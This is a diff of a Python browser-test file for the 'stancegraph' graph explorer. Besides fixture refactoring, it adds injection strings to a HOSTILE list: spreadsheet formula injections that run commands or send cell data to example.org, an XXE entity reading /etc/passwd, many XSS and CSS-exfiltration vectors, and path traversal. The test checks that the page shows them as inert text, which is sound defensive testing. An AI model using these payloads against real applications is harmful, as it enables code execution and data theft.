@@ -2,40 +2,18 @@
 
 from __future__ import annotations
 
-import datetime as dt
 import itertools
-import os
-import shutil
-from contextlib import contextmanager
 from html import escape
-from typing import TYPE_CHECKING, Any
 
 import networkx as nx
 import pytest
+from browser import DESKTOP, NEXT_FRAME, PHONE, Opened
 
 from stancegraph.explorer import explore
 from stancegraph.graph import rolled_up, to_multigraph
 from stancegraph.models import Actor, DocumentRef, Evidence, FoundBy, Kind, Span, Statement
 
-if TYPE_CHECKING:
-    from collections.abc import Iterator
-
-    from playwright.sync_api import BrowserContext, Page
-
 pytestmark = pytest.mark.browser
-
-FLAGS = [
-    "--no-sandbox",  # containers run as root, where Chromium's own sandbox cannot start
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-default-apps",
-    "--disable-sync",
-    "--no-first-run",
-]
-DESKTOP = {"width": 1280, "height": 800}
-NEXT_FRAME = "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true))))"
-PHONE = {"width": 390, "height": 844}
 
 # Each stands in every field of a statement that comes from text. Those that could run would set window.ran.
 HOSTILE = [
@@ -80,143 +58,52 @@ HOSTILE = [
     "Zal\u0338\u0335\u0334go",
     "😀" * 40,
     "W" * 300,
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    '@SUM(1+1)*cmd|"/c calc"!A0',
+    '=cmd|"/c calc"!A1',
+    '\t=WEBSERVICE("https://example.org")',
+    "\r=1+1",
+    "\n=IMPORTXML(1)",
+    "\uff1d1+1",
+    '"=1+1',
+    '=HYPERLINK("https://example.org?x="&A1,"open")',
+    '","=1+1',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    "&b; &#x1F600; &#0; &amp;lt;",
+    "<![CDATA[<script>window.ran=1</script>]]>",
+    "<svg><use xlink:href='data:image/svg+xml,x#y'/></svg>",
+    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>",
+    "<svg><foreignObject><iframe src=javascript:parent.ran=1></iframe></foreignObject></svg>",
+    "<math href=javascript:window.ran=1>x</math>",
+    "<style>*{background:url(https://example.org/x)}</style>",
+    "</text><script>window.ran=1</script><text>",
+    "red;background:url(https://example.org/x)",
+    "@import 'https://example.org/x.css';",
+    "<object data=javascript:window.ran=1></object>",
+    "<embed src=https://example.org/x>",
+    "<form action=https://example.org><button autofocus>x</button></form>",
+    "<video><source onerror=window.ran=1></video>",
+    "<xss onpointerenter=window.ran=1 style=position:fixed;inset:0>",
+    '" onfocus=window.ran=1 autofocus x="',
+    "onerror=window.ran=1;throw 1",
+    "setTimeout`window.ran\\x3d1`",
+    "toString",
+    "hasOwnProperty",
+    "\u2066\u202eltr\u2069",
+    "\ufeff\u200b\u200dzero width",
+    "\ufffe\uffff",
+    "_x0041_ _x000D_",
+    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
+    "#actor=x&no-sign=1",
+    "../../../etc/passwd",
+    "CON",
+    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
+    "<template><script>window.ran=1</script></template>",
+    "<select><option></select><img src=x onerror=window.ran=1>",
+    "%s%n%x {0.__class__} #{7*7} <%= 7*7 %>",
 ]  # fmt: skip
-
-
-@pytest.fixture(scope="session")
-def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
-    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-    required = os.environ.get("STANCEGRAPH_REQUIRE_BROWSER") == "1"
-    if path is None:
-        if required:
-            pytest.fail("STANCEGRAPH_REQUIRE_BROWSER=1, and there is no chromium on the PATH")
-        pytest.skip("needs chromium on the PATH")
-    if not required:
-        pytest.importorskip("playwright.sync_api")
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as playwright:
-        context = playwright.chromium.launch_persistent_context(
-            tmp_path_factory.mktemp("profile"), executable_path=path, headless=True, args=FLAGS
-        )
-        yield context
-        context.close()
-
-
-class Opened:
-    """A page in the browser with everything it said and asked for."""
-
-    def __init__(self, context: BrowserContext, size: dict[str, int], scheme: str) -> None:
-        self.page: Page = context.new_page()
-        self.requests: list[str] = []
-        self.messages: list[str] = []
-        self.page.set_viewport_size(size)
-        self.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
-        self.page.on("console", lambda message: self.messages.append(message.text))
-        self.page.on("pageerror", lambda error: self.messages.append(str(error)))
-        self.page.on("popup", lambda popup: self.requests.append(popup.url))
-        self.page.route("**/*", self._answer)
-
-    def _answer(self, route: Any) -> None:
-        if route.request.url.startswith(("file:", "data:", "blob:")):
-            route.continue_()
-        else:
-            self.requests.append(route.request.url)
-            route.abort()
-
-    def state(self) -> dict[str, Any]:
-        return self.page.evaluate("stancegraph.state()")
-
-    def click(self, where: str, *arguments: str) -> None:
-        """Click the picture where an actor or a tie is drawn."""
-        point = self.page.evaluate(f"(names) => stancegraph.{where}(...names)", list(arguments))
-        assert point is not None
-        self.page.mouse.click(point["x"], point["y"])
-
-    def selected(self) -> str:
-        """The heading of what is selected; waits until something is."""
-        return self.page.locator("#reading-title").inner_text()
-
-    def reading(self) -> str:
-        return self.page.locator("#reading").inner_text()
-
-    def picture(self) -> bytes:
-        """What the picture looks like, as a PNG, without the pointer's traces."""
-        self.page.mouse.move(2, 2)
-        return self.page.locator("#net").screenshot()
-
-    def pixels(self) -> dict[str, int]:
-        """How many pixels of the picture have each of its colours."""
-        return self.page.evaluate(
-            """() => {
-                const canvas = document.querySelector("#net canvas");
-                const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
-                const count = {};
-                for (let i = 0; i < data.length; i += 4) {
-                    const colour = `${data[i]} ${data[i + 1]} ${data[i + 2]}`;
-                    count[colour] = (count[colour] ?? 0) + 1;
-                }
-                return count;
-            }"""
-        )
-
-
-@pytest.fixture
-def opened(chromium, tmp_path):
-    """``with opened(G, ...) as page``; leaving it asserts that the page was silent and asked for nothing."""
-
-    @contextmanager
-    def opening(
-        G: nx.MultiDiGraph, *, size: dict[str, int] = DESKTOP, scheme: str = "light", title: str | None = None
-    ) -> Iterator[Opened]:
-        path = tmp_path / "page.html"
-        explore(G, title=title).write(path)
-        seen = Opened(chromium, size, scheme)
-        try:
-            seen.page.goto(path.as_uri())
-            seen.page.wait_for_selector("html[data-ready]", state="attached")
-            yield seen
-            assert seen.requests == []
-            assert seen.messages == []
-        finally:
-            seen.page.close()
-
-    return opening
-
-
-@pytest.fixture(scope="module")
-def korea(make_statement, make_actor) -> nx.MultiDiGraph:
-    """Two camps, an alleged tie, two parallel ones, a denial at nobody, an envoy with aliases."""
-    envoy = make_actor("official:rus/georgy-zinoviev", name="Georgy Zinoviev", aliases=("Zinovyev",), role="ambassador")
-    kim = make_actor("official:kor/kim-hong-kyun", name="Kim Hong-kyun", role="Vice Foreign Minister")
-    kor, prk, rus, usa, ukr = (f"country:{code}" for code in ("KOR", "PRK", "RUS", "USA", "UKR"))
-    paper = DocumentRef(
-        id="harbour",
-        title="Envoy called in",
-        outlet="Harbour Times",
-        url="https://example.org/1",
-        date=dt.date(2024, 10, 21),
-    )
-    return to_multigraph(
-        [
-            make_statement(kim, "accuses", envoy, document=paper, start=0, date="2024-10-21"),
-            make_statement(envoy, "denies", kim, document=paper, start=50, date="2024-10-21"),
-            make_statement(
-                prk, "aids", rus, document=paper, start=100, factuality="alleged", attributed_to=make_actor(kor)
-            ),
-            make_statement(prk, "cooperates", rus, document=paper, start=150, date="2024-10-21"),
-            make_statement(kor, "condemns", prk, document="b", start=0, date="2024-10-18", outlet="Northern Ledger"),
-            make_statement(kor, "condemns", prk, document="b", start=50, date="2024-10-22", outlet="Northern Ledger"),
-            make_statement(kim, "supports", kor, document="b", start=100),
-            make_statement(envoy, "supports", rus, document="b", start=150),
-            make_statement(usa, "supports", kor, document="b", start=200),
-            make_statement(usa, "aids", ukr, document="b", start=250),
-            make_statement(rus, "attacks", ukr, document="b", start=300),
-            make_statement(prk, "denies", document="b", start=350),
-            make_statement("organisation:nato", "consults", kor, document="b", start=400),
-            make_statement("group:residents", "urges", prk, document="b", start=450),
-        ]
-    )
 
 
 # ---- the picture -------------------------------------------------------------------------------------------
@@ -280,13 +167,13 @@ def test_clicking_an_actor_shows_the_sentences_behind_its_ties(opened, korea):
 
 
 def test_further_sentences_of_an_actor_unfold_by_keyboard(opened, make_statement):
-    targets = [f"group:g{i}" for i in range(2000)]
+    targets = [f"group:g{i}" for i in range(1900)]
     ties = [make_statement("country:PRK", "condemns", target, start=50 * i) for i, target in enumerate(targets)]
     often = [make_statement("country:PRK", "accuses", "country:KOR", document="often", start=50 * i) for i in range(9)]
     with opened(to_multigraph(ties + often)) as seen:
         panel = seen.page.locator("#reading")
         seen.click("where", "country:PRK")
-        assert seen.page.locator("#reading .ties li").count() == 2001
+        assert seen.page.locator("#reading .ties li").count() == 1901
         # The nine of the tie with the most do not push all others off the screen, and are all there on its own.
         assert panel.locator("blockquote").count() == 6
         fold = panel.get_by_role("button", name="Sentences: North Korea condemns G7", exact=True)
@@ -453,7 +340,7 @@ def test_nothing_left_is_said(opened, korea):
 )
 def test_search_finds_by_name_and_alias(opened, korea, typed, found):
     with opened(korea) as seen:
-        search = seen.page.get_by_role("combobox")
+        search = seen.page.locator("#search")
         search.fill(typed)
         assert search.get_attribute("aria-expanded") == "true"
         search.press("Enter")
@@ -463,13 +350,13 @@ def test_search_finds_by_name_and_alias(opened, korea, typed, found):
 
 def test_suggestions_are_chosen_with_arrows_or_mouse(opened, korea):
     with opened(korea) as seen:
-        search = seen.page.get_by_role("combobox")
+        search = seen.page.locator("#search")
         search.fill("korea")
         options = seen.page.get_by_role("option")
         assert options.count() == 2
         second = options.nth(1).inner_text().strip()
         search.press("ArrowDown")
-        assert search.get_attribute("aria-activedescendant") == "suggestion-1"
+        assert search.get_attribute("aria-activedescendant") == "suggestions-1"
         search.press("Enter")
         assert seen.selected() == second
         search.fill("ukr")
@@ -479,7 +366,7 @@ def test_suggestions_are_chosen_with_arrows_or_mouse(opened, korea):
 
 def test_search_says_when_nobody_has_that_name(opened, korea):
     with opened(korea) as seen:
-        seen.page.get_by_role("combobox").fill("Atlantis")
+        seen.page.locator("#search").fill("Atlantis")
         assert seen.page.get_by_role("listbox").inner_text() == "No actor of that name"
 
 
@@ -625,7 +512,7 @@ def test_hostile_text_is_shown_as_text_and_never_runs(opened):
         assert seen.page.locator("h1").inner_text() == HOSTILE[0]
         shown = set()
         for i, payload in enumerate(HOSTILE):
-            search = seen.page.get_by_role("combobox")
+            search = seen.page.locator("#search")
             search.evaluate("(input, text) => { input.value = text; }", f"{payload} a{i}")
             search.dispatch_event("input")
             assert seen.page.get_by_role("option").count() >= 1
@@ -641,7 +528,7 @@ def test_hostile_text_is_shown_as_text_and_never_runs(opened):
         assert seen.page.evaluate("window.ran") is None
         assert seen.page.locator("#page :is(img, iframe, script, base, meta, link, math, style, body)").count() == 0
         assert "49" not in seen.page.locator("#facets").inner_text().split()
-        assert seen.page.url.endswith("page.html")
+        assert seen.page.url.partition("#")[0].endswith("page.html")
 
 
 @pytest.mark.parametrize(
@@ -754,7 +641,7 @@ def test_more_actors_than_hubs_are_drawn_and_can_be_clicked(opened, make_stateme
     G = to_multigraph(statements)
     with opened(G) as seen:
         assert seen.state()["actors"] == len(G) > 300
-        data = seen.page.evaluate("JSON.parse(document.getElementById('data').textContent).actors")
+        data = seen.page.evaluate("stancegraph.data().levels[0].actors")
         least = min(zip(data["score"], data["id"], data["name"], strict=True))
         seen.click("where", least[1])
         assert seen.selected() == least[2]
